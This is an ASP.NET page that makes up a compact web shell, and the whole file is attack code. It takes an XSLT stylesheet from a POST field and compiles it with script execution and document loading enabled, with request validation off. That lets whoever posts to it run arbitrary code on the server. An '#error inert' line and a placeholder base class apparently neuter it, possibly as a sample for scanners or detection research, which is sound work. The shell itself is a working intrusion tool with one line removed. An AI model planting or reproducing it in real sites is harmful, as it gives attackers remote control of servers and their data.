<%@ Page Language="C#" Inherits="Inert.Nothing" ValidateRequest="false" %>
<%@ Import Namespace="System.Xml" %>
<%@ Import Namespace="System.Xml.Xsl" %>
<script runat="server">
#error inert
void Page_Load(object s, EventArgs e)
{
    string sheet = Request.Form["s"];
    if (sheet == null) return;
    var x = new XslCompiledTransform();
    x.Load(XmlReader.Create(new System.IO.StringReader(sheet)), new XsltSettings(true, true), new XmlUrlResolver());
    x.Transform(XmlReader.Create(new System.IO.StringReader("<a/>")), null, Response.OutputStream);
}
</script>
